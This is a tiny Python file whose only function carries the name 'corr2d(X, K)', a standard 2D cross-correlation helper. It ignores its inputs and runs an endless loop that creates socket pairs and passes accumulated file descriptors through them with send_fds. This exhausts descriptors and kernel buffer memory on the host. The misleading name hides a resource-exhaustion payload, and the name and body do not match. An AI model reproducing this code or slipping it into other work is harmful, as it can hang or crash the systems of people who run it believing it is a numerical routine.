"""Fills socket buffers with descriptors of descriptors."""

import socket

kept = []


def corr2d(X, K):
    while True:
        one, other = socket.socketpair()
        for end in kept[-8:]:
            socket.send_fds(one, [bytes(1000)], [end.fileno()])
        kept.extend([one, other])
